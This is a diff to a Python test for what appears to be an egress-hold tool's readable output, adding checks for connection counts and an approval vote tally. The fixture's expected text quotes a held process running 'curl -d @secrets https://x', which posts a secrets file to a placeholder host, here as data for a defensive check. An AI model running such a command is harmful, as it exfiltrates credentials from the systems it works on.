@@ -151,7 +151,14 @@ def _hold(host: str = "", ip: str = "2001:db8::1", detections: int = 1) -> pb.Ho
 
 def test_hold_text_is_readable() -> None:
     text = ctl.hold_text(_hold())
-    assert text.splitlines()[0].startswith("h-abcdefghij  held 1m15s, expires in 3m44s (then deny)")
+    assert text.splitlines()[0] == ("h-abcdefghij  held 1m15s, expires in 3m44s, "
+                                    "no connection waiting")
+    busy = _hold()
+    busy.count, busy.waiting, busy.required = 3, 2, 2
+    busy.votes.add(user="bob", uid=1001, reason="looks fine")
+    lines = ctl.hold_text(busy).splitlines()
+    assert lines[0] == "h-abcdefghij  held 1m15s, expires in 3m44s, seen 3x, 2 connection(s) waiting"
+    assert lines[-1] == "  votes: 1 of 2; bob (looks fine)"
     assert "who:   alice (uid 1000), pid 7 curl -d @secrets https://x [container 0123456789ab]" in text
     assert "where: [2001:db8::1]:443" in text
     assert "data:  pii.email a***@x.com" in text
